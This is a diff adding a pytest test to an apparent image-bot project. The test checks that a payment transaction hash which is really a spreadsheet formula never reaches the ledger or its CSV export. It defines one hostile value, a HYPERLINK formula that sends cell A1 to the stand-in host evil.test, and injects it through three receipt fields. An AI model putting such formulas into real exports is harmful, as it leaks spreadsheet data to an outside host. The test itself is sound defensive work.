@@ -21,6 +21,7 @@ from typing import Any
 import httpx
 import pytest
 from aiohttp import web
+from imagebot_cli import cli_env, imagebot
 from local import serving
 from pictures import png
 from test_images import REQUIREMENT, bomb_png, quoting, run, service_for
@@ -568,3 +569,45 @@ async def test_payment_network_setting_reaches_the_running_bot(tmp_path: Path) -
     assert chat.texts[0].startswith("The image service asked for payment on ")
     assert "Nothing was charged." in chat.texts[0]
     assert gateway.payments_received == 1  # only the run on the implied network paid
+
+
+FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"open")'
+
+
+@pytest.mark.parametrize(
+    "receipt",
+    [
+        {"body": {"payment": {"status": "settled", "tx_hash": FORMULA}}},
+        {"headers": {"X-Payment-Receipt": FORMULA}},
+        {
+            "headers": {
+                "PAYMENT-RESPONSE": base64.b64encode(
+                    json.dumps({"success": True, "transaction": FORMULA}).encode()
+                ).decode()
+            }
+        },
+    ],
+    ids=["body", "x-payment-receipt", "payment-response"],
+)
+async def test_a_transaction_hash_that_is_not_one_never_reaches_the_ledger_or_its_csv(
+    unused_tcp_port: int, tmp_path: Path, receipt: dict[str, Any]
+) -> None:
+    """A spreadsheet formula for a tx hash: the picture is settled and delivered, and the row
+    has no hash, so ``imagebot spend --csv`` hands no formula to a spreadsheet."""
+    body = {"data": [{"url": data_uri(png())}]} | receipt.get("body", {})
+
+    def answer() -> web.Response:
+        return web.json_response(body, headers=receipt.get("headers", {}))
+
+    database = tmp_path / "l.sqlite3"
+    chat = RecordingChat()
+    async with serving(("POST", GENERATIONS, quoting(answer)), port=unused_tcp_port) as url:
+        settings = load_settings(_env_file=None, image_api_url=url, database_path=database)
+        async with open_bot(settings, Wallet.create()) as bot:
+            assert await bot.handle(ALICE, chat, "/imagegen a fox") is Outcome.DONE
+    code, csv_text = await imagebot("spend", "--csv", env=cli_env(url, database), cwd=tmp_path)
+
+    assert code == 0 and len(chat.pictures) == 1
+    (row,) = csv_text.splitlines()[1:]
+    assert row.endswith(",0.052500,")
+    assert "HYPERLINK" not in csv_text
